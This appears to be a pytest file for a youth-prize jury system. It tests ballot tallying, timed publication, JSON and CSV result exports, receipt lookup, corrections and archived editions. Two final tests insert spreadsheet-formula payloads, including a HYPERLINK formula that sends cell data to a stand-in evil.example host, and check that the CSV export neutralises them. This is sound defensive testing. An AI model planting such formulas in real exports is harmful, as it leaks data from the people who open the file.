"""Results: the tally of stored ballots, publication (by hand and at the announcement instant),
the public data of the contracts, corrections and the archive. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from sqlmodel import select

from prize import tally as pure
from prize.domain import transitions
from prize.domain.errors import DomainError, NotAllowed, NotFound
from prize.domain.results import publication, published, tally_input
from prize.domain.shared import audit
from prize.models import (
    ActorKind,
    AuditEvent,
    Ballot,
    EditionState,
    ResultsNote,
    Round,
    Score,
)
from tests.jurykit import (
    RESULTS_JSON_FIELDS,
    ROUND1,
    ROUND1_SCORES,
    ROUND2,
    ROUND2_SCORES,
    cast_ballot,
    digest_by_hand,
    make_archived_edition,
    make_decided_edition,
    make_scored_edition,
)

OFFICER = audit.Actor(ActorKind.staff, None)


def test_tally_of_the_stored_ballots_counts_submitted_ballots_conflicts_and_abstentions(
    db, clock
) -> None:
    with db.write() as session:
        scored = make_scored_edition(session, now=clock(), n_jurors=4)
        for juror, marks in ROUND1.items():
            cast_ballot(session, scored, juror, "shortlist", marks, now=clock())
        cast_ballot(session, scored, 3, "shortlist", dict.fromkeys(range(9), 0), submitted=False)
    with db.read() as session:
        result = tally_input.tally_of(
            session=session, edition=scored.edition, round_=Round.shortlist
        )
    assert result.counted_ballots == 3
    assert [j.submitted for j in result.jurors] == [True, True, True, False]
    e = result.entry(scored.ids[4])
    f = result.entry(scored.ids[5])
    assert e is not None and f is not None
    assert (e.ballots, e.no_score) == (2, ((scored.jurors[1].id, pure.CONFLICT),))
    assert (f.ballots, f.no_score) == (2, ((scored.jurors[2].id, pure.ABSTAINED),))
    assert result.proposal.selected == tuple(scored.ids[:3])
    # Figures worked out independently (tests/jurykit.py ROUND1_SCORES); the draft changes none.
    assert {
        scored.ids.index(e.application): round(e.score, 4) for e in result.ranking
    } == ROUND1_SCORES


def test_ranking_json_has_the_command_lines_shape(db, clock) -> None:
    with db.write() as session:
        scored = make_scored_edition(session, now=clock())
        for juror, marks in ROUND1.items():
            cast_ballot(session, scored, juror, "shortlist", marks, now=clock())
    with db.read() as session:
        data = tally_input.ranking_json(
            session=session, edition=scored.edition, round_=Round.shortlist
        )
    assert list(data) == ["edition", "round", "ranking"]
    assert (data["edition"], data["round"]) == (2027, "shortlist")
    first = data["ranking"][0]
    assert list(first) == [
        "rank",
        "reference",
        "title",
        "country",
        "country_code",
        "score",
        "median",
        "spread",
        "ballots",
        "flags",
    ]
    assert first["reference"] == "EDPP-2027-0001"
    assert (first["title"], first["country"], first["country_code"]) == (
        "Project A",
        "Bosnia and Herzegovina",
        "BA",
    )
    assert first["ballots"] == 3 and first["flags"] == []
    # Scores to 4 decimals, as worked out independently (tests/jurykit.py ROUND1_SCORES).
    assert [(r["reference"], r["score"]) for r in data["ranking"]] == [
        (f"EDPP-2027-000{i + 1}", ROUND1_SCORES[i]) for i in (0, 1, 2, 4, 3, 5, 6, 7, 8)
    ]
    flags = {r["reference"]: r["flags"] for r in data["ranking"]}
    assert flags["EDPP-2027-0005"] == ["below_quorum"]  # E: one juror was conflicted


def test_publish_before_decided_is_refused(db, clock) -> None:
    with db.write() as session:
        scored = make_scored_edition(session, now=clock(), state="final")
        with pytest.raises(NotAllowed) as error:
            transitions.publish(session=session, edition=scored.edition, actor=OFFICER, now=clock())
    assert error.value.message.msgid == "Decide the results before publishing them."


def test_results_are_not_public_before_publication(db, clock) -> None:
    with db.write() as session:
        make_decided_edition(session, clock)
    with db.read() as session, pytest.raises(NotFound):
        published.get_results(session=session, year=2027)


def test_publish_makes_the_results_public_with_the_contracts_fields(db, clock) -> None:
    with db.write() as session:
        scored = make_decided_edition(session, clock)
        transitions.publish(session=session, edition=scored.edition, actor=OFFICER, now=clock())
    with db.read() as session:
        data = published.get_results(session=session, year=2027).as_json()
        final = tally_input.tally_of(session=session, edition=scored.edition, round_=Round.final)
        digests = {
            "shortlist": digest_by_hand(session, scored, "shortlist", ROUND1, range(9)),
            "final": digest_by_hand(session, scored, "final", ROUND2, range(4)),
        }
    assert list(data) == list(RESULTS_JSON_FIELDS)
    assert data["edition"] == 2027
    assert data["published_at"] == "2027-03-01T10:00:00+00:00"
    # B's final score is 9.1545, worked out by hand and with the reference tally (tests/jurykit.py
    # ROUND2_SCORES); the results give it to 2 decimals.
    assert round(final.entry(scored.ids[1]).score, 4) == ROUND2_SCORES[1] == 9.1545
    assert data["winners"][0] == {
        "rank": 1,
        "reference": "EDPP-2027-0002",
        "title": "Project B",
        "organisation": "Organisation B",
        "country": "Israel",
        "country_code": "IL",
        "score": 9.15,
    }
    assert [(w["reference"], w["score"]) for w in data["winners"]] == [
        ("EDPP-2027-0002", 9.15),
        ("EDPP-2027-0003", 7.94),  # ROUND2_SCORES: 7.9378
        ("EDPP-2027-0001", 5.99),  # 5.9860
    ]
    assert [(n["rank"], n["reference"], n["score"]) for n in data["nominated"]] == [
        (4, "EDPP-2027-0004", 4.59)  # 4.5884
    ]
    assert data["special_mentions"] == [
        {
            "rank": None,
            "reference": "EDPP-2027-0006",
            "title": "Project F",
            "organisation": "Organisation F",
            "country": "Belgium",
            "country_code": "BE",
            "score": None,  # outside the shortlist
        }
    ]
    assert data["jury"] == [
        {"name": "Ana", "country": "Belgium"},
        {"name": "Lena", "country": "Lebanon"},
    ]  # Omar gave no consent to publish his name
    assert data["method"]["normalised"] is True and data["method"]["quorum"] == 3
    assert "youth jury of 3" in data["method"]["text"]
    assert data["ballot_digest"] == digests


def test_csv_has_one_row_per_awarded_project(db, clock) -> None:
    with db.write() as session:
        scored = make_decided_edition(session, clock)
        transitions.publish(session=session, edition=scored.edition, actor=OFFICER, now=clock())
    with db.read() as session:
        text = published.get_results(session=session, year=2027).as_csv()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == list(published.CSV_COLUMNS)
    assert [(r["award"], r["rank"], r["reference"]) for r in rows] == [
        ("winner", "1", "EDPP-2027-0002"),
        ("winner", "2", "EDPP-2027-0003"),
        ("winner", "3", "EDPP-2027-0001"),
        ("nominated", "4", "EDPP-2027-0004"),
        ("special_mention", "", "EDPP-2027-0006"),
    ]
    assert rows[0]["country"] == "Israel" and rows[4]["score"] == ""
    assert all(re.fullmatch(r"\d+\.\d\d", r["score"]) for r in rows[:4])  # "7.70": 2 decimals


def test_published_figures_never_change_even_if_a_stored_score_does(db, clock) -> None:
    with db.write() as session:
        scored = make_decided_edition(session, clock)
        transitions.publish(session=session, edition=scored.edition, actor=OFFICER, now=clock())
    with db.read() as session:
        before = published.get_results(session=session, year=2027).as_json()
    with db.write() as session:
        ballot = session.exec(select(Ballot).where(Ballot.round == Round.final)).first()
        for score in session.exec(select(Score).where(Score.ballot_id == ballot.id)):
            score.value = 0
            session.add(score)
    with db.read() as session:
        after = published.get_results(session=session, year=2027).as_json()
        live = tally_input.tally_of(session=session, edition=scored.edition, round_=Round.final)
    assert after == before
    assert live.digest != before["ballot_digest"]["final"]


def test_publish_due_publishes_at_the_announcement_instant_only(db, clock) -> None:
    with db.write() as session:
        scored = make_decided_edition(session, clock)
        announce = scored.edition.announce_at
    with db.write() as session:
        assert transitions.publish_due(session=session, now=announce - timedelta(seconds=1)) == []
    with db.write() as session:
        done = transitions.publish_due(session=session, now=announce)
        assert [e.year for e in done] == [2027]
    with db.read() as session:
        data = published.get_results(session=session, year=2027)
        event = session.exec(
            select(AuditEvent).where(AuditEvent.kind == publication.PUBLISHED_KIND)
        ).one()
    assert data.edition.state is EditionState.published
    assert data.edition.published_at == announce
    assert event.actor_kind is ActorKind.system


def test_publish_twice_is_refused_and_changes_nothing(db, clock) -> None:
    with db.write() as session:
        scored = make_decided_edition(session, clock)
        transitions.publish(session=session, edition=scored.edition, actor=OFFICER, now=clock())
        first_published_at = scored.edition.published_at
        with pytest.raises(NotAllowed, match="published already"):
            transitions.publish(
                session=session,
                edition=scored.edition,
                actor=OFFICER,
                now=clock() + timedelta(days=1),
            )
    with db.read() as session:
        data = published.get_results(session=session, year=2027)
        events = session.exec(
            select(AuditEvent).where(AuditEvent.kind == publication.PUBLISHED_KIND)
        ).all()
    assert data.edition.published_at == first_published_at == clock()
    assert len(events) == 1


def test_receipts_of_counted_ballots_are_found_per_round(db, clock) -> None:
    with db.write() as session:
        scored = make_decided_edition(session, clock)
        transitions.publish(session=session, edition=scored.edition, actor=OFFICER, now=clock())
        receipt = session.exec(
            select(Ballot.receipt_code).where(
                Ballot.juror_id == scored.jurors[0].id, Ballot.round == Round.final
            )
        ).one()
    with db.read() as session:
        assert publication.receipt_rounds(
            session=session, edition=scored.edition, code=receipt
        ) == [Round.final]
        lower = f" {receipt.lower()} "
        assert publication.receipt_rounds(session=session, edition=scored.edition, code=lower) == [
            Round.final
        ]
        assert (
            publication.receipt_rounds(session=session, edition=scored.edition, code="NOPE") == []
        )
        assert publication.receipt_rounds(session=session, edition=scored.edition, code="") == []


def test_a_receipt_typed_with_0_for_o_and_1_for_i_is_found(db, clock) -> None:
    """Codes are base32, without 0 or 1: a juror copying one from a phone often types them."""
    with db.write() as session:
        scored = make_decided_edition(session, clock)
        ballot = session.exec(
            select(Ballot).where(
                Ballot.juror_id == scored.jurors[0].id, Ballot.round == Round.final
            )
        ).one()
        ballot.receipt_code = "FSG4OF62RI"
        session.add(ballot)
        transitions.publish(session=session, edition=scored.edition, actor=OFFICER, now=clock())
    with db.read() as session:
        for typed in ("FSG40F62R1", "fsg4-0f62-r1", " FSG4 OF62 RI "):
            assert publication.receipt_rounds(
                session=session, edition=scored.edition, code=typed
            ) == [Round.final], typed


def test_a_correction_is_a_new_audited_note_only_after_publication(db, clock) -> None:
    with db.write() as session:
        scored = make_decided_edition(session, clock)
        with pytest.raises(NotAllowed):
            published.add_note(
                session=session, edition=scored.edition, text="x", actor=OFFICER, now=clock()
            )
        transitions.publish(session=session, edition=scored.edition, actor=OFFICER, now=clock())
        with pytest.raises(DomainError, match="Write the correction"):
            published.add_note(
                session=session, edition=scored.edition, text="  ", actor=OFFICER, now=clock()
            )
        for _ in range(2):  # a double click adds the note once
            published.add_note(
                session=session,
                edition=scored.edition,
                text="Project B's organisation is spelt Organisation B.",
                actor=OFFICER,
                now=clock(),
            )
    with db.read() as session:
        data = published.get_results(session=session, year=2027)
        kinds = [e.kind for e in session.exec(select(AuditEvent)).all()]
        assert [n.text for n in data.notes] == ["Project B's organisation is spelt Organisation B."]
        assert len(session.exec(select(ResultsNote)).all()) == 1
    assert "results.note_added" in kinds


def test_archived_edition_results_are_recorded_without_ballots(db, clock) -> None:
    with db.write() as session:
        edition = published.create_archived_edition(
            session=session, year=2014, title_en="", actor=OFFICER, now=clock()
        )
        published.add_archive_entry(
            session=session,
            edition=edition,
            award="winner",
            rank=1,
            title="Peer Street Work",
            organisation="Youth Club",
            country="it",
            actor=OFFICER,
            now=clock(),
        )
        published.add_archive_entry(
            session=session,
            edition=edition,
            award="nominated",
            title="School Voices",
            country="FR",
            actor=OFFICER,
            now=clock(),
        )
        with pytest.raises(DomainError, match="Choose a country"):
            published.add_archive_entry(
                session=session,
                edition=edition,
                award="winner",
                title="X",
                country="QQ",
                actor=OFFICER,
                now=clock(),
            )
    with db.read() as session:
        data = published.get_results(session=session, year=2014).as_json()
    assert data["ballot_digest"] is None
    assert data["published_at"] is None
    assert data["winners"] == [
        {
            "rank": 1,
            "reference": None,
            "title": "Peer Street Work",
            "organisation": "Youth Club",
            "country": "Italy",
            "country_code": "IT",
            "score": None,
        }
    ]
    assert [n["title"] for n in data["nominated"]] == ["School Voices"]
    assert data["method"]["recorded_without_ballots"] is True
    assert "without ballots" in data["method"]["text"]


def test_archive_entries_only_for_archived_editions_and_years_are_unique(db, clock) -> None:
    with db.write() as session:
        scored = make_scored_edition(session, now=clock())
        with pytest.raises(NotAllowed):
            published.add_archive_entry(
                session=session,
                edition=scored.edition,
                award="winner",
                title="X",
                country="FR",
                actor=OFFICER,
                now=clock(),
            )
        with pytest.raises(DomainError, match="There is an edition 2027 already"):
            published.create_archived_edition(
                session=session, year=2027, title_en="", actor=OFFICER, now=clock()
            )


def test_results_csv_cannot_carry_a_spreadsheet_formula(db, clock) -> None:
    with db.write() as session:
        make_archived_edition(
            session,
            now=clock(),
            year=2012,
            rank=1,
            title='=HYPERLINK("http://evil.example","Click")',
            organisation="@SUM(1+1)",
            country="PT",
        )
    with db.read() as session:
        text = published.get_results(session=session, year=2012).as_csv()
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["title"] == '\'=HYPERLINK("http://evil.example","Click")'
    assert row["organisation"] == "'@SUM(1+1)"


def test_results_csv_quotes_every_cell_and_defuses_formulas_but_not_plus_attitude(
    db, clock
) -> None:
    with db.write() as session:
        edition = make_archived_edition(
            session,
            now=clock(),
            year=2016,
            title="+Attitude",
            country="PT",
            organisation="-2+3",
            rank=1,
        )
        published.add_archive_entry(
            session=session,
            edition=edition,
            award="nominated",
            title='=HYPERLINK("http://evil.example/?"&A1)',
            organisation="Jeunes; @SUM(A1:A9)",
            country="FR",
            actor=OFFICER,
            now=clock(),
        )
    with db.read() as session:
        text = published.get_results(session=session, year=2016).as_csv()
    assert text.splitlines()[0] == ",".join(f'"{c}"' for c in published.CSV_COLUMNS)
    for delimiter in (",", ";"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for field in row:
                start = field.lstrip(' "')
                assert start[:1] not in {"=", "+", "-", "@"} or start.startswith("+Attitude")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [(r["title"], r["organisation"]) for r in rows] == [
        ("+Attitude", "'-2+3"),
        ('\'=HYPERLINK("http://evil.example/?"&A1)', "Jeunes; '@SUM(A1:A9)"),
    ]
